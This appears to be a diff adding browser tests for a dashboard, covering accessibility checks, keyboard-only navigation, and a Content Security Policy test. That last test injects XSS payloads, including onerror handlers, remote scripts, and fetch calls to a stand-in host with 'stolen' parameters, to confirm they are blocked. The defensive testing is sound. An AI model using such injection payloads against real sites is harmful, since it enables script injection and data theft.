@@ -1,0 +1,123 @@
+"""Every page in a real headless Chromium: clean by axe-core in light and dark, names as text, keyboard alone, own scripts."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Sequence
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from dashboards import more_pages
+from tests.dashboards.accessibility import settle, violations
+from tests.dashboards.hostile import FOLDER, MARKUP, write_hostile
+
+pytestmark = pytest.mark.browser
+
+Serve = Callable[[Sequence[Path]], str]
+Visiting = Callable[[str], Any]
+PAGES = ("", "timeline", *(path.strip("/") for path in more_pages.PAGES), "schedules")
+FOREIGN = """() => [...document.querySelectorAll('#app :is(img, script, iframe, object), svg a, [href^="javascript"]')]
+    .map(element => element.outerHTML)"""
+
+
+def test_every_page_is_accessible_and_shows_hostile_names_as_text(
+    tmp_path: Path, serve: Serve, visit: Visiting
+) -> None:
+    address = serve([write_hostile(tmp_path)])
+    page = visit(address).page
+    for name in PAGES:
+        page.click(f"#to-{name or 'overview'}")
+        settle(page)
+        assert FOLDER in page.inner_text("#run-title")
+        assert page.evaluate(FOREIGN) == []
+        assert page.evaluate("window.attacked") is None, name
+        assert violations(page) == [], name
+    page.goto(address)
+    assert MARKUP in settle(page).inner_text("#run-errors"), "shown as it is"
+
+
+FOCUS = """() => {
+    const element = document.activeElement;
+    const { outlineStyle, boxShadow } = getComputedStyle(element);
+    const isSeen = element === document.body || outlineStyle !== 'none' || boxShadow !== 'none';
+    return [element.id || element.textContent.slice(0, 60), isSeen];
+}"""
+
+
+def tab_to(page: Any, wanted: str) -> None:
+    """Press Tab until something of that id or text has the focus; what has it is seen to have it."""
+    for _ in range(40):
+        page.keyboard.press("Tab")
+        name, is_seen = page.evaluate(FOCUS)
+        assert is_seen, name
+        if name == wanted:
+            return
+    raise AssertionError(f"{wanted} is not reached with Tab")
+
+
+def test_the_keyboard_alone_goes_everywhere(run_p4: Path, serve: Serve, visit: Visiting) -> None:
+    """From the link over the header to the page, from page to page, to another step, and to the journey of a microbatch."""
+    page = settle(visit(serve([run_p4])).page)
+    tab_to(page, "Skip to the page")
+    page.keyboard.press("Enter")
+    assert page.evaluate(FOCUS)[0] == "page"
+    tab_to(page, "step")
+    page.keyboard.press("Enter")
+    page.wait_for_function("() => document.activeElement.value === '2'")
+    page.keyboard.press("ArrowDown")
+    page.wait_for_function("() => document.activeElement.value === '3'")
+    page.keyboard.press("Space")
+    page.wait_for_function("() => document.querySelector('#step-value').textContent.startsWith('3')")
+    tab_to(page, "to-timeline")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("#timeline")
+    assert settle(page).get_attribute("#to-timeline", "aria-current") == "page"
+    page.wait_for_function("() => document.querySelector('#timeline').timeline.step === 3")
+    tab_to(page, "timeline-search")
+    page.keyboard.type("rank 3 B 5")
+    page.keyboard.press("Enter")
+    page.wait_for_function("() => document.querySelector('#timeline-found').textContent === '1 of 3'")
+    page.keyboard.press("Tab")
+    page.keyboard.press("j")
+    page.wait_for_selector("#timeline-journey")
+    assert "Microbatch 5, step 2" in page.inner_text(".timeline-side")
+    assert violations(settle(page)) == []
+
+
+def test_a_page_runs_no_script_that_is_not_the_dashboards(run_p4: Path, serve: Serve, browser: Any) -> None:
+    """Markup that would get into a page could do nothing: its policy is tried by attacks of each kind."""
+    page = browser.new_page()
+    page.goto(serve([run_p4]))
+    settle(page)
+    page.evaluate(
+        """document.addEventListener('securitypolicyviolation',
+            event => (window.refused ||= []).push(event.effectiveDirective))"""
+    )
+    page.evaluate(
+        """() => {
+            const box = document.createElement('div');
+            document.body.append(box);
+            box.innerHTML = '<img src="data:," onerror="window.attacked = 1"><iframe src="https://example.invalid/"></iframe>';
+            const script = document.createElement('script');
+            script.textContent = 'window.attacked = 2';
+            box.append(script, Object.assign(document.createElement('script'), { src: 'https://example.invalid/x.js' }));
+            box.append(Object.assign(document.createElement('base'), { href: 'https://example.invalid/' }));
+            setTimeout('window.attacked = 3');
+            fetch('https://example.invalid/?stolen=1').catch(() => {});
+            new Image().src = 'https://example.invalid/?stolen=2';
+        }"""
+    )
+    page.wait_for_function("() => window.refused && new Set(window.refused).size >= 7")
+    refused = page.evaluate("[...new Set(window.refused)].sort()")
+    assert page.evaluate("window.attacked") is None
+    page.close()
+    assert refused == [
+        "base-uri",
+        "connect-src",
+        "frame-src",
+        "img-src",
+        "script-src",
+        "script-src-attr",
+        "script-src-elem",
+    ]
